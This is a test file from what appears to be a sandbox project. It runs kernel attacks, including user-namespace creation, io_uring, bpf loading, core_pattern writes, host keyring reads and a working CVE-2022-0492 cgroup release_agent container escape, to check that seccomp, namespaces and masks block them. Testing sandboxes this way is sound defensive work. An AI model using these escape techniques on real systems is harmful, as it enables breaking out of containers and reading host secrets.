/** Attacks on the kernel: its rarely needed calls, its settings, its keys and its control groups. */
import { existsSync, readFileSync } from "node:fs";
import {
	type Attack,
	exitedZero,
	kernelPython,
	NO_USER_NAMESPACE,
	printedOk,
	python,
	readTheSecret,
	testAttacks,
} from "../support/attack.ts";
import { all, mountedWith, sharing, unconfined, without } from "../support/plan-edits.ts";

const NO_SECCOMP = { editPlan: without("seccomp") } as const;
/** Root of the host, but for the namespaces. */
const HOST_ROOT = { input: NO_USER_NAMESPACE, editPlan: unconfined } as const;

function lacks(hostPath: string, what: string): string | false {
	return existsSync(hostPath) ? false : `this kernel has no ${what}`;
}

/** New namespaces are where an ordinary user has all capabilities, and so meets most of the kernel. */
const NAMESPACES: readonly Attack[] = [
	{
		title: "makes a user namespace by unshare",
		protection: "seccomp",
		off: NO_SECCOMP,
		argv: () => kernelPython(`call(SYS_unshare, 0x10000000); print("ok")`),
		hasSucceeded: printedOk,
	},
	{
		title: "makes a user namespace by clone",
		protection: "seccomp",
		off: NO_SECCOMP,
		argv: () =>
			kernelPython(`if call(SYS_clone, 0x10000000 | 17, 0, 0, 0, 0) == 0: os._exit(0)
print("ok")`),
		hasSucceeded: printedOk,
	},
	{
		title: "makes a user namespace by clone with a bit set that the kernel ignores (CVE-2019-10063)",
		protection: "seccomp",
		off: NO_SECCOMP,
		argv: () =>
			kernelPython(`if call(SYS_clone, 1 << 40 | 0x10000000 | 17, 0, 0, 0, 0) == 0: os._exit(0)
print("ok")`),
		hasSucceeded: printedOk,
	},
	{
		title: "makes a user namespace by clone3, whose flags a filter cannot see",
		protection: "seccomp",
		off: NO_SECCOMP,
		argv: () =>
			kernelPython(`arguments = struct.pack("8Q", 0x10000000, 0, 0, 0, 17, 0, 0, 0)
if call(SYS_clone3, arguments, len(arguments)) == 0: os._exit(0)
print("ok")`),
		hasSucceeded: printedOk,
	},
];

const CALLS: readonly Attack[] = [
	{
		title: "opens an io_uring, whose operations pass by every filter",
		protection: "seccomp",
		off: NO_SECCOMP,
		missing: lacks("/proc/sys/kernel/io_uring_disabled", "io_uring"),
		argv: () => kernelPython(`call(SYS_io_uring_setup, 4, ctypes.create_string_buffer(120)); print("ok")`),
		hasSucceeded: printedOk,
	},
	{
		title: "opens a userfaultfd, with which the kernel's races are won",
		protection: "seccomp",
		off: NO_SECCOMP,
		missing: lacks("/proc/sys/vm/unprivileged_userfaultfd", "userfaultfd"),
		argv: () =>
			kernelPython(`UFFD_USER_MODE_ONLY = 1; call(SYS_userfaultfd, UFFD_USER_MODE_ONLY); print("ok")`),
		hasSucceeded: printedOk,
	},
	{
		title: "loads a bpf program",
		protection: "seccomp, the user namespace and the dropped CAP_BPF",
		off: HOST_ROOT,
		argv: () =>
			kernelPython(`BPF_PROG_LOAD = 5; SOCKET_FILTER = 1
program = struct.pack("<BBhiBBhi", 0xb7, 0, 0, 0, 0x95, 0, 0, 0) # r0 = 0; exit
program = ctypes.create_string_buffer(program, 16)
license = ctypes.create_string_buffer(b"GPL")
request = struct.pack("<IIQQ", SOCKET_FILTER, 2, ctypes.addressof(program), ctypes.addressof(license))
request = ctypes.create_string_buffer(request, 128)
call(SYS_bpf, BPF_PROG_LOAD, request, 128); print("ok")`),
		hasSucceeded: printedOk,
	},
	{
		title: "counts the events of the whole machine by perf_event_open",
		protection: "seccomp, the user namespace and the dropped CAP_PERFMON",
		off: HOST_ROOT,
		argv: () =>
			kernelPython(`SOFTWARE = 1; EVERY_PROCESS = -1
attributes = ctypes.create_string_buffer(struct.pack("<II", SOFTWARE, 112), 112)
call(SYS_perf_event_open, attributes, EVERY_PROCESS, 0, -1, 0); print("ok")`),
		hasSucceeded: printedOk,
	},
	{
		title: "loads a kernel module",
		protection: "seccomp, the user namespace and the dropped CAP_SYS_MODULE",
		off: HOST_ROOT,
		missing: lacks("/proc/modules", "modules"),
		argv: () =>
			kernelPython(`ctypes.set_errno(0)
result = libc.syscall(SYS_init_module, b"not a module", 12, b"")
print("ok" if ctypes.get_errno() == errno.ENOEXEC else errno.errorcode[ctypes.get_errno()])`),
		hasSucceeded: printedOk,
	},
	{
		title: "prepares another kernel to be booted",
		protection: "seccomp, the user namespace and the dropped CAP_SYS_BOOT",
		off: HOST_ROOT,
		missing: lacks("/sys/kernel/kexec_loaded", "kexec"),
		// No segments: it would only unload one.
		argv: () => kernelPython(`call(SYS_kexec_load, 0, 0, 0, 62 << 16); print("ok")`),
		hasSucceeded: printedOk,
	},
	{
		title: "sets the host's clock",
		protection: "the user namespace and the dropped CAP_SYS_TIME",
		off: HOST_ROOT,
		argv: () =>
			kernelPython(`ADJ_ESTERROR = 8 # what is written is what was read
timex = ctypes.create_string_buffer(208)
call(SYS_adjtimex, timex)
struct.pack_into("I", timex, 0, ADJ_ESTERROR)
call(SYS_adjtimex, timex); print("ok")`),
		hasSucceeded: printedOk,
	},
	{
		title: "switches address randomisation off for what it executes, setuid programs included",
		protection: "seccomp",
		off: NO_SECCOMP,
		argv: () =>
			kernelPython(`ADDR_NO_RANDOMIZE = 0x40000; call(SYS_personality, ADDR_NO_RANDOMIZE); print("ok")`),
		hasSucceeded: printedOk,
	},
	{
		title: "reads the host's kernel log",
		protection: "seccomp, the user namespace and the dropped CAP_SYSLOG",
		off: HOST_ROOT,
		argv: () => ["dmesg"],
		hasSucceeded: exitedZero,
	},
];

const SETTINGS: readonly Attack[] = [
	{
		title: "writes to /proc/sys",
		protection: "the read-only /proc/sys and the user namespace",
		off: { input: NO_USER_NAMESPACE, editPlan: without("readonly") },
		argv: () =>
			python(`p = "/proc/sys/vm/swappiness"; v = open(p).read(); open(p, "w").write(v); print("ok")`),
		hasSucceeded: printedOk,
	},
	{
		title: "names the program that the kernel runs as root when something crashes",
		protection: "the read-only /proc/sys and the user namespace",
		off: { input: NO_USER_NAMESPACE, editPlan: without("readonly") },
		argv: () =>
			python(`p = "/proc/sys/kernel/core_pattern"; v = open(p).read(); open(p, "w").write(v); print("ok")`),
		hasSucceeded: printedOk,
	},
	{
		title: "writes to /sys",
		protection: "the read-only /sys and the user namespace",
		off: {
			input: NO_USER_NAMESPACE,
			editPlan: mountedWith("/sys", ["nosuid", "nodev", "noexec"]),
		},
		argv: () =>
			python(`p = "/sys/kernel/mm/transparent_hugepage/enabled"
value = open(p).read().split("[")[1].split("]")[0]; open(p, "w").write(value); print("ok")`),
		missing: lacks("/sys/kernel/mm/transparent_hugepage/enabled", "huge pages"),
		hasSucceeded: printedOk,
	},
	{
		title: "gives an order to the kernel by /proc/sysrq-trigger",
		protection: "the read-only view of it and the user namespace",
		off: { input: NO_USER_NAMESPACE, editPlan: without("readonly") },
		missing: lacks("/proc/sysrq-trigger", "sysrq"),
		// The harmless one: help.
		argv: () => ["sh", "-c", "echo h > /proc/sysrq-trigger"],
		hasSucceeded: exitedZero,
	},
	{
		title: "reads what the kernel tells about its memory to root only",
		protection: "the user namespace, or the mask where there is none",
		off: { input: NO_USER_NAMESPACE, editPlan: without("mask") },
		argv: () => python(`assert len(open("/proc/vmallocinfo").read()) > 0; print("ok")`),
		hasSucceeded: printedOk,
	},
	{
		title: "has the kernel run a program on the host when a control group is empty (CVE-2022-0492)",
		protection: "seccomp, the user and cgroup namespaces and the dropped capabilities",
		off: { input: NO_USER_NAMESPACE, editPlan: all(unconfined, sharing("cgroup")) },
		missing: /^nodev\tcgroup$/m.test(readFileSync("/proc/filesystems", "utf8"))
			? false
			: "this kernel has no cgroup v1",
		argv: ({ folder, pid }) =>
			kernelPython(`# A hierarchy of its own, so that no other is disturbed.
call(SYS_mount, b"none", b"/mnt", b"cgroup", 0, b"none,name=shale-escape-${pid}")
open("/mnt/release_agent", "w").write("${folder}/agent-of-attacker")
os.mkdir("/mnt/group")
open("/mnt/group/notify_on_release", "w").write("1")
if os.fork() == 0:
    open("/mnt/group/cgroup.procs", "w").write("0"); os._exit(0)
os.wait()
time.sleep(0.2)
os.rmdir("/mnt/group")
call(SYS_umount2, b"/mnt", 0)
print("ok")`),
		hasSucceeded: (_, { folder }) => existsSync(`${folder}/released`),
	},
];

const KEYS: readonly Attack[] = [
	{
		title: "lists the host's keys in /proc/keys",
		protection: "the mask over it",
		off: { editPlan: without("mask") },
		argv: () => python(`assert len(open("/proc/keys").read()) > 0; print("ok")`),
		hasSucceeded: printedOk,
	},
	{
		title: "reads a key of the host's root",
		protection: "seccomp and the user namespace, whose root has a keyring of its own",
		off: { input: NO_USER_NAMESPACE, editPlan: without("seccomp") },
		argv: ({ keyName }) =>
			kernelPython(`LINK = 8; SEARCH = 10; READ = 11; USER_KEYRING = -4; SESSION_KEYRING = -3
call(SYS_keyctl, LINK, USER_KEYRING, SESSION_KEYRING, 0, 0)
key = call(SYS_keyctl, SEARCH, USER_KEYRING, b"user", b"${keyName}", 0)
buffer = ctypes.create_string_buffer(100)
call(SYS_keyctl, READ, key, buffer, 100)
print(buffer.value.decode())`),
		hasSucceeded: readTheSecret,
	},
	{
		title: "leaves a key for other sandboxes",
		protection: "seccomp",
		off: NO_SECCOMP,
		argv: () =>
			kernelPython(`USER_KEYRING = -4
call(SYS_add_key, b"user", b"shale-left", b"x", 1, USER_KEYRING); print("ok")`),
		hasSucceeded: printedOk,
	},
];

testAttacks("the kernel", [...NAMESPACES, ...CALLS, ...SETTINGS, ...KEYS]);
